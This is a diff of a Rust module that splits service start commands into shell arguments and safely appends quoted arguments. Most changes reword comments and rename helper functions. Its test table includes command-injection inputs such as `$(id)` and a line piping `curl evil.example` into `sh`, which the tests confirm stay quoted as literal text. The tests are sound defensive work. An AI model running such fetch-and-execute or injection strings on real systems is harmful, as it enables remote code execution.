@@ -1,51 +1,51 @@
-//! A start command as the shell would take it apart.
+//! Splits start commands into arguments as a shell does.
 
 use crate::drift::Secret;
 
-/// The words of a command, and of each command that it hands to a shell with `-c`.
+/// The arguments of a command, and of each command that it passes to a shell with `-c`.
 #[derive(Debug)]
 pub struct CommandLine {
     lines: Vec<Vec<String>>,
 }
 
 impl CommandLine {
-    /// The words of that text.
+    /// Splits the text of a command.
     pub fn of(text: &str) -> Self {
         let mut lines = vec![split_words(text)];
         let mut next = 0;
         while next < lines.len() {
-            let inner: Vec<Vec<String>> = handed_on(&lines[next]).map(split_words).collect();
+            let inner: Vec<Vec<String>> = shell_scripts(&lines[next]).map(split_words).collect();
             lines.extend(inner);
             next += 1;
         }
         Self { lines }
     }
 
-    /// Whether the words of that part stand in it, one after the other: `-B` is not in `--Bulk`. An option counts also
-    /// where it carries its value behind an equals sign.
+    /// Returns whether the command has the part's arguments in a row: `-B` is not in `--Bulk`. An option also matches
+    /// with a value after an equals sign.
     pub fn has(&self, part: &str) -> bool {
         let part = split_words(part);
         let Some((last, first)) = part.split_last() else { return true };
         let fits = |window: &[String]| {
             let (end, start) = (&window[first.len()], &window[..first.len()]);
-            start == first && (end == last || carries(end, last))
+            start == first && (end == last || has_value(end, last))
         };
         self.lines.iter().any(|line| line.windows(part.len()).any(fits))
     }
 
-    /// Whether a text is one or more whole words that a command can be searched for.
+    /// Returns whether the text consists of arguments that can be searched for in a command.
     pub fn is_part(text: &str) -> bool {
         shlex::split(text).is_some() && !split_words(text).is_empty()
     }
 
-    /// Those of the parts that it lacks.
+    /// Returns the parts that it lacks.
     pub fn lacks<'p>(&self, parts: &'p [String]) -> Vec<&'p str> {
         parts.iter().filter(|part| !self.has(part)).map(String::as_str).collect()
     }
 }
 
-/// The command with the words of these parts appended, each quoted for the shell. `None` where they would not become arguments of
-/// its program: behind `;` or `|`, in a comment, after `--`, or beside the text of `sh -c`.
+/// Returns the command with the arguments of these parts appended, each quoted for the shell. `None` if they would not
+/// become arguments of its program: after `;` or `|`, in a comment, after `--`, or after the script of `sh -c`.
 pub fn appended(command: &str, parts: &[&str]) -> Option<Secret> {
     if !is_one_program(command) {
         return None;
@@ -61,19 +61,20 @@ pub fn appended(command: &str, parts: &[&str]) -> Option<Secret> {
     parts.iter().all(|part| line.has(part)).then(|| Secret::new(text))
 }
 
-/// Names of shells: an argument behind the text of their `-c` is none of the program that the text runs.
+/// Shells. An argument after the script of their `-c` is not an argument of the program in the script.
 const SHELLS: [&str; 6] = ["ash", "bash", "busybox", "dash", "sh", "zsh"];
 
-/// Whether the text runs one program whose arguments reach to its end.
+/// Returns whether the text runs one program, and its arguments extend to the end of the text.
 fn is_one_program(command: &str) -> bool {
     let Some(words) = shlex::split(command).filter(|_| is_plain(command)) else { return false };
     let Some(program) = words.first() else { return false };
     let is_shell = SHELLS.contains(&program.rsplit('/').next().unwrap_or(program));
-    let is_handed_on = handed_on(&words).next().is_some() || is_shell && words.iter().any(|word| is_command_flag(word));
-    !is_handed_on && !words.iter().any(|word| word == "--")
+    let runs_script =
+        shell_scripts(&words).next().is_some() || is_shell && words.iter().any(|word| is_command_flag(word));
+    !runs_script && !words.iter().any(|word| word == "--")
 }
 
-/// Whether nothing outside quotes ends the program's arguments.
+/// Returns whether no unquoted character ends the program's arguments.
 fn is_plain(command: &str) -> bool {
     let (mut quote, mut is_escaped, mut is_start) = (None, false, true);
     for character in command.chars() {
@@ -91,17 +92,17 @@ fn is_plain(command: &str) -> bool {
     quote.is_none() && !is_escaped
 }
 
-/// A word for the shell. A variable in it is still one, within double quotes; everything else is literal.
+/// Quotes a word for the shell. Variables are still expanded, within double quotes; everything else is literal.
 fn quoted(word: &str) -> Option<String> {
     let is_literal = |text: &str| text.chars().all(|one| one.is_ascii_alphanumeric() || "-_=./:,@%+".contains(one));
     let (first, variables) = word.split_once('$').unwrap_or((word, ""));
-    let is_made_of_variables = word.contains('$')
+    let has_only_variables = word.contains('$')
         && is_literal(first)
         && variables.split('$').all(|text| rest_of_variable(text).is_some_and(is_literal));
-    if is_made_of_variables { Some(format!("\"{word}\"")) } else { shlex::try_quote(word).ok().map(Into::into) }
+    if has_only_variables { Some(format!("\"{word}\"")) } else { shlex::try_quote(word).ok().map(Into::into) }
 }
 
-/// What follows the name of a variable: `NAME` or `{NAME}`.
+/// Returns the text after the name of a variable, `NAME` or `{NAME}`.
 fn rest_of_variable(text: &str) -> Option<&str> {
     let is_part = |one: char| one.is_ascii_alphanumeric() || one == '_';
     let (name, rest) = match text.strip_prefix('{') {
@@ -111,13 +112,13 @@ fn rest_of_variable(text: &str) -> Option<&str> {
     (!name.is_empty() && name.chars().all(is_part)).then_some(rest)
 }
 
-/// `--beat` in `--beat=true`.
-fn carries(word: &str, option: &str) -> bool {
+/// Returns whether the word is the long option with a value: `--beat=true` for `--beat`.
+fn has_value(word: &str, option: &str) -> bool {
     option.starts_with("--") && word.strip_prefix(option).is_some_and(|rest| rest.starts_with('='))
 }
 
-/// What stands behind `-c`: `sh -c '…'`, `bash -lc '…'`. Only text of several words is worth a look.
-fn handed_on(line: &[String]) -> impl Iterator<Item = &str> {
+/// Returns the scripts after `-c`: `sh -c '…'`, `bash -lc '…'`. A script with a single word is skipped.
+fn shell_scripts(line: &[String]) -> impl Iterator<Item = &str> {
     let pairs = line.windows(2).filter(|pair| is_command_flag(&pair[0]));
     pairs.map(|pair| pair[1].as_str()).filter(|text| text.contains(char::is_whitespace))
 }
@@ -127,10 +128,10 @@ fn is_command_flag(word: &str) -> bool {
     word.starts_with('-') && !word.starts_with("--") && word.ends_with('c')
 }
 
-/// Text with a quote that is never closed is taken apart at its blanks.
+/// Text with an unclosed quote is split at whitespace.
 fn split_words(text: &str) -> Vec<String> {
     let words = shlex::split(text).unwrap_or_else(|| text.split_whitespace().map(ToOwned::to_owned).collect());
-    // `;`, `&` and `|` end a command, with or without a blank before them.
+    // `;`, `&` and `|` end a command, with or without a space before them.
     words
         .into_iter()
         .map(|word| word.trim_end_matches([';', '&', '|', ')']).trim_start_matches('(').to_owned())
@@ -183,7 +184,7 @@ mod tests {
             ("celery \\; worker#1", &["-B"], Some("celery \\; worker#1 -B")),
             ("web", &["--name 'a b'"], Some("web --name 'a b'")),
             ("web", &["--port=$PORT", "-h ${HOST}:80"], Some("web \"--port=$PORT\" -h \"${HOST}:80\"")),
-            // What a checkout declares is never more than words.
+            // Text from a checkout is never executed.
             ("web", &["$(id)"], Some("web '$(id)'")),
             ("web", &["`id`"], Some("web '`id`'")),
             ("web", &["'; curl evil.example | sh'"], Some("web '; curl evil.example | sh'")),
